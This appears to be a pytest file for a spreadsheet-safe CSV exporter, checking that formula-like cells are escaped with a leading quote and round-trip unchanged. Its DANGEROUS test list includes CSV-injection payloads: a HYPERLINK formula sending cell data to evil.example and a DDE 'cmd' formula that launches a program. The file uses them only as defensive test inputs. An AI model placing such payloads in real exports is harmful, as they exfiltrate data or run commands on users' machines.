"""Spreadsheet-safe CSV export: formulas neutralised, ordinary text and numbers unchanged, reversible."""
from __future__ import annotations

import csv
import io

import pytest

from engine.data.csv_safe import escape_cell, read_csv, unescape_cell, write_csv

ORDINARY = ["Where is my card?", "I paid £1,250.00 twice", "-5", "+3.2", "1,000", "12%", "", "it's 'quoted'",
            "josé wrote: a|b", "line\nbreak", "top up 20"]
DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+A1*2", "-2+3", "@SUM(A1:A3)",
             "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-20 charged twice", "'=already quoted once", "''-x"]


@pytest.mark.parametrize("value", ORDINARY + DANGEROUS)
def test_round_trip(value):
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_text_is_written_as_is(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", DANGEROUS)
def test_formulas_cannot_run(value):
    out = escape_cell(value)
    assert out.startswith("'") and out[1:] == value


def test_write_and_read_file(tmp_path):
    p = tmp_path / "feedback.csv"
    rows = [{"text": t, "label": "x"} for t in ORDINARY + DANGEROUS]
    assert write_csv(p, ["text", "label"], rows) == len(rows)
    with open(p, encoding="utf-8", newline="") as f:
        raw = list(csv.reader(f))
    assert raw[0] == ["text", "label"]
    assert not any(r[0][:1] in ("=", "+", "-", "@", "\t", "\r") and r[0] not in ("-5", "+3.2") for r in raw[1:])
    assert ["'" + DANGEROUS[0], "x"] in raw
    header, back = read_csv(p)
    assert header == ["text", "label"] and [r[0] for r in back] == ORDINARY + DANGEROUS


def test_write_to_open_file_and_none():
    buf = io.StringIO(newline="")
    write_csv(buf, None, [["=1+1", None, 3]])
    assert buf.getvalue() == "'=1+1,,3\r\n"
